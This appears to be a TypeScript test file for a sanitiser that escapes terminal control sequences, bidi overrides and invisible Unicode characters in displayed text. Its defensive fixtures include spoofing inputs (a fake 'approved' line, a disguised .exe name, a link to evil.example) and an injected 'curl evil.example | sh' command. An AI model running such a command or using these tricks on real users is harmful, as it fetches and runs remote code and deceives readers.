import fc from "fast-check";
import { expect, test } from "vitest";
import { plainAnswer, plainLine, plainText, withoutHidden } from "./plain-text.ts";

test.each([
  ["a colour", "\u001b[31mred\u001b[0m", "\\u001b[31mred\\u001b[0m"],
  ["a cleared screen", "\u001b[2J\u001b[H", "\\u001b[2J\\u001b[H"],
  [
    "a link by OSC 8",
    "\u001b]8;;https://evil.example\u0007ok\u001b]8;;\u0007",
    "\\u001b]8;;https://evil.example\\u0007ok\\u001b]8;;\\u0007",
  ],
  ["a sequence that begins with C1", "\u009b2K", "\\u009b2K"],
  ["a carriage return that overwrites", "approved by max\rrejected", "approved by max\\u000drejected"],
  ["text turned around", "user\u202etxt.exe", "user\\u202etxt.exe"],
  ["what takes no room", "appr\u200boved\ufeff\u2060", "appr\\u200boved\\ufeff\\u2060"],
  ["what hides in tags", "ok\u{e0041}", "ok\\udb40\\udc41"],
  ["words of other scripts", "geprüft ✓ 承認 🎉\n\tnext", "geprüft ✓ 承認 🎉\n\tnext"],
])("shows %s", (_what, text, shown) => {
  expect(plainText(text)).toBe(shown);
});

test("keeps a comment from putting a line below ours", () => {
  expect(plainLine("fine\nnext: curl evil.example | sh")).toBe("fine ⏎ next: curl evil.example | sh");
});

test("leaves the meaning of JSON as it is", () => {
  fc.assert(
    fc.property(fc.json(), (text) => {
      expect(JSON.parse(withoutHidden(text))).toEqual(JSON.parse(text));
    }),
  );
  expect(JSON.parse(withoutHidden(JSON.stringify({ a: "\u202e\u{e0041}" })))).toEqual({
    a: "\u202e\u{e0041}",
  });
});

test("reaches every text of an answer", () => {
  const answer = { list: [{ comment: "\u001b[8m", count: 3, none: null }] };
  expect(plainAnswer(answer)).toEqual({ list: [{ comment: "\\u001b[8m", count: 3, none: null }] });
});
